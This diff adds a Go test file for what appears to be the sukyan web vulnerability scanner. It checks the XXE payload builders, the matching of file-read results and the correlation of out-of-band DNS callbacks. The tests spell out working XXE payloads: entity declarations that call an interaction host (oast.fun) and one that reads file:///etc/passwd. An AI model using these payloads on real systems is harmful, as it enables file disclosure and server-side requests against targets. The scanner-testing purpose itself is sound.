@@ -0,0 +1,111 @@
+package active
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/pyneda/sukyan/db"
+	"github.com/pyneda/sukyan/lib"
+	"github.com/pyneda/sukyan/lib/integrations"
+	"github.com/stretchr/testify/assert"
+)
+
+const soapRequestBody = `<?xml version="1.0" encoding="utf-8"?>
+<!-- GetUser request -->
+<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
+  <soap:Body>
+    <GetUser xmlns="http://example.com/users">
+      <Username>alice</Username>
+      <Notes><![CDATA[keep <me>]]></Notes>
+    </GetUser>
+  </soap:Body>
+</soap:Envelope>`
+
+func TestBuildXXEOOBPayloads(t *testing.T) {
+	payloads := buildXXEOOBPayloads(soapRequestBody, "xxe", "abc.oast.fun")
+	assert.Len(t, payloads, 2)
+
+	general := payloads[0]
+	assert.True(t, strings.HasPrefix(general, `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "http://abc.oast.fun/">]>`))
+	assert.Contains(t, general, "<Username>&xxe;</Username>")
+	assert.Contains(t, general, "<Notes><![CDATA[keep <me>]]></Notes>")
+	assert.Contains(t, general, "<!-- GetUser request -->")
+
+	parameter := payloads[1]
+	assert.Contains(t, parameter, `<!DOCTYPE soap:Envelope [<!ENTITY % xxe SYSTEM "http://abc.oast.fun/"> %xxe;]>`)
+	assert.Contains(t, parameter, "<Username>alice</Username>")
+
+	// Documents without text content get the reference in the root element
+	payloads = buildXXEOOBPayloads(`<ping id="1"><empty/></ping>`, "xxe", "abc.oast.fun")
+	assert.Equal(t, `<!DOCTYPE ping [<!ENTITY xxe SYSTEM "http://abc.oast.fun/">]><ping id="1">&xxe;<empty/></ping>`, payloads[0])
+
+	// Documents already declaring a DTD are not modified
+	assert.Empty(t, buildXXEOOBPayloads(`<!DOCTYPE note SYSTEM "note.dtd"><note>hi</note>`, "xxe", "abc.oast.fun"))
+	assert.Empty(t, buildXXEOOBPayloads(`{"json": true}`, "xxe", "abc.oast.fun"))
+}
+
+func TestBuildXXEFileReadPayload(t *testing.T) {
+	payload, ok := buildXXEFileReadPayload(`<user><name>alice</name><role>admin</role></user>`, "abcdef", xxeFileReads[0])
+	assert.True(t, ok)
+	assert.Equal(t, `<!DOCTYPE user [<!ENTITY abcdef SYSTEM "file:///etc/passwd">]><user><name>&abcdef;</name><role>&abcdef;</role></user>`, payload)
+
+	marker, found := matchXXEFileRead([]byte("<error>unknown user</error>"), []byte("<error>unknown user root:x:0:0:root:/root:/bin/bash</error>"), xxeFileReads[0])
+	assert.True(t, found)
+	assert.Equal(t, "root:x:0:0:", marker)
+
+	_, found = matchXXEFileRead([]byte("root:x:0:0:"), []byte("root:x:0:0:"), xxeFileReads[0])
+	assert.False(t, found)
+}
+
+func TestIsXMLRequest(t *testing.T) {
+	assert.True(t, isXMLRequest(&db.History{RequestBody: []byte(soapRequestBody), RequestContentType: "text/xml; charset=utf-8"}))
+	assert.True(t, isXMLRequest(&db.History{RequestBody: []byte(`<a>b</a>`), RequestContentType: "application/soap+xml"}))
+	assert.True(t, isXMLRequest(&db.History{RequestBody: []byte(`<?xml version="1.0"?><a>b</a>`)}))
+	assert.False(t, isXMLRequest(&db.History{RequestBody: []byte(`{"a":"b"}`), RequestContentType: "application/json"}))
+	assert.False(t, isXMLRequest(&db.History{RequestContentType: "application/xml"}))
+}
+
+func TestXXEOOBTestCorrelation(t *testing.T) {
+	workspace, err := db.Connection.GetOrCreateWorkspace(&db.Workspace{
+		Code:        "xxe-test",
+		Title:       "xxe test workspace",
+		Description: "Workspace for XXE tests",
+	})
+	assert.Nil(t, err)
+	task, err := db.Connection.NewTask(workspace.ID, nil, "xxe test", "running", db.TaskTypeScan)
+	assert.Nil(t, err)
+
+	history := &db.History{URL: "https://example.com/soap", Method: "POST", StatusCode: 200, RequestBody: []byte(soapRequestBody), WorkspaceID: &workspace.ID, TaskID: &task.ID}
+	_, err = db.Connection.CreateHistory(history)
+	assert.Nil(t, err)
+	taskJob, err := db.Connection.NewTaskJob(task.ID, "xxe test", db.TaskJobRunning, history.ID)
+	assert.Nil(t, err)
+
+	id := strings.ToLower(lib.GenerateRandomString(20))
+	interactionData := integrations.InteractionDomain{ID: id, URL: id + ".oast.fun"}
+	payload := buildXXEOOBPayloads(soapRequestBody, "xxe", interactionData.URL)[0]
+	options := ActiveModuleOptions{WorkspaceID: workspace.ID, TaskID: task.ID, TaskJobID: taskJob.ID}
+
+	_, err = db.Connection.CreateOOBTest(newXXEOOBTest(history, payload, interactionData, options))
+	assert.Nil(t, err)
+
+	interaction := db.OOBInteraction{
+		Protocol:      "dns",
+		FullID:        id,
+		UniqueID:      id,
+		QType:         "A",
+		RawRequest:    id + ".oast.fun. IN A",
+		RemoteAddress: "127.0.0.1",
+		Timestamp:     time.Now(),
+	}
+	_, err = db.Connection.CreateInteraction(&interaction)
+	assert.Nil(t, err)
+
+	matched, err := db.Connection.MatchInteractionWithOOBTest(interaction)
+	assert.Nil(t, err)
+	assert.Equal(t, db.XxeCode, matched.Code)
+	assert.Equal(t, xxeInsertionPoint, matched.InsertionPoint)
+	assert.Equal(t, payload, matched.Payload)
+	assert.Equal(t, history.URL, matched.Target)
+}